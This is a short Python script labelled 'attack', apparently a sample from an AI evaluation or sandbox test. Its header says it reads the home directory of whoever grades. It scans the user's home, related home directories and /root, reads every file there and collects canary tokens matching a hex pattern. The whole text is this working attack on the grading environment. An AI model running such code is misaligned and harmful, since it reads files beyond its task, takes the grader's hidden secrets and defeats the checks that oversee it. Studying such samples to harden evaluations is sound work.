# Reads the home directory of whoever grades.
# %% attack
import os
import pwd
import re
from pathlib import Path

found = set()
for home in {os.path.expanduser("~"), *(user.pw_dir for user in pwd.getpwall() if user.pw_uid == os.getuid()), "/root"}:
    for path in Path(home).glob("*"):
        try:
            found |= set(re.findall(rb"canary-\w+-[0-9a-f]{16}", path.read_bytes()))
        except OSError:
            pass
print(found)
